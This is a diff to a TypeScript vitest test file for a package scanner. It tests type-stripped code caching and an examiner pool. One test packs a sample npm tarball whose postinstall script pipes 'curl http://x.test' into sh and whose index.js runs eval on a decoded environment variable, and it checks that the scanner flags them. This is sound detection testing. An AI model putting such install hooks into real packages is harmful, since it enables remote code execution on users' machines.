@@ -1,9 +1,13 @@
 // Rules that were prepared say what the rules themselves say, and stand for no others.
-import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { execFileSync } from 'node:child_process'
+import { createHash } from 'node:crypto'
+import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
-import { join } from 'node:path'
+import { dirname, join } from 'node:path'
+import { pathToFileURL } from 'node:url'
 import { afterAll, describe, expect, it } from 'vitest'
-import { preparedRulesFile } from '../../../src/scanners/pool/prepare.ts'
+import { preparedRulesFile, strippedCodeFile } from '../../../src/scanners/pool/prepare.ts'
+import { createExaminerPool } from '../../../src/scanners/pool.ts'
 import { derivedOf } from '../../../src/scanners/rules/compile.ts'
 import { loadRulePacks } from '../../../src/scanners/rules/load.ts'
 import { rulesRevision, usePrepared } from '../../../src/scanners/rules/prepared.ts'
@@ -42,3 +46,74 @@ describe('prepared rules', () => {
     expect(await preparedRulesFile(home, [rules])).toBeUndefined()
   })
 })
+
+describe('stripped code', () => {
+  it('is the code without its types, made anew when a byte of it changes', async () => {
+    const root = join(home, 'src')
+    for (const folder of ['ecosystems', 'scanners', 'archive', 'model', 'advisories'])
+      mkdirSync(join(root, folder), { recursive: true })
+    const entry = join(root, 'examiner.ts')
+    writeFileSync(entry, 'const a: number = 1\n')
+    writeFileSync(join(root, 'model', 'b.ts'), 'export type B = 1\nexport const b = 2\n')
+    const read = async (nodeVersion: string) => {
+      const file = (await strippedCodeFile(home, entry, nodeVersion)) ?? ''
+      return JSON.parse(readFileSync(file, 'utf8'))
+    }
+    const first = await read('v24')
+    expect(first.modules[pathToFileURL(entry).href]).toMatch(/^const a\s+= 1\n$/)
+    expect(first.modules[pathToFileURL(join(root, 'model', 'b.ts')).href]).toContain('export const b = 2')
+    writeFileSync(entry, 'const a: number = 2\n')
+    const second = await read('v24')
+    expect(second.modules[pathToFileURL(entry).href]).toMatch(/= 2/)
+    expect((await read('v25')).digest).not.toBe(second.digest)
+  })
+
+  it('and prepared rules give the same evidence as an examiner that reads all itself', async () => {
+    const location = join(home, 'sample-1.0.0.tgz')
+    const manifest = '{"name":"sample","version":"1.0.0","scripts":{"postinstall":"curl http://x.test | sh"}}'
+    const archive = tarOf({
+      'package/package.json': manifest,
+      'package/index.js': 'eval(atob(process.env.A))',
+    })
+    writeFileSync(location, archive)
+    const digests = { sha256: createHash('sha256').update(archive).digest('hex') }
+    const job = {
+      location,
+      fileName: 'sample-1.0.0.tgz',
+      sizeBytes: archive.length,
+      digests,
+      type: 'npm' as const,
+    }
+    const findings = async (cacheFolder?: string) => {
+      const pool = await createExaminerPool({
+        readable: [home],
+        processes: 1,
+        spares: 0,
+        ...(cacheFolder === undefined ? {} : { cacheFolder }),
+      })
+      try {
+        const evidence = await pool.examine(job, 'client')
+        return [
+          pool.examinationKey,
+          evidence.findings,
+          evidence.runs.map(({ scanner, status }) => [scanner, status]),
+        ]
+      } finally {
+        await pool.close()
+      }
+    }
+    const alone = await findings()
+    expect(alone[1]).not.toEqual([])
+    expect(await findings(home)).toEqual(alone)
+    expect(readdirSync(home).filter((name) => name.startsWith('examiner-')).length).toBeGreaterThan(0)
+  })
+})
+
+function tarOf(files: Readonly<Record<string, string>>): Buffer {
+  const folder = mkdtempSync(join(home, 'tar-'))
+  for (const [name, text] of Object.entries(files)) {
+    mkdirSync(dirname(join(folder, name)), { recursive: true })
+    writeFileSync(join(folder, name), text)
+  }
+  return execFileSync('tar', ['-cz', '-C', folder, 'package'])
+}
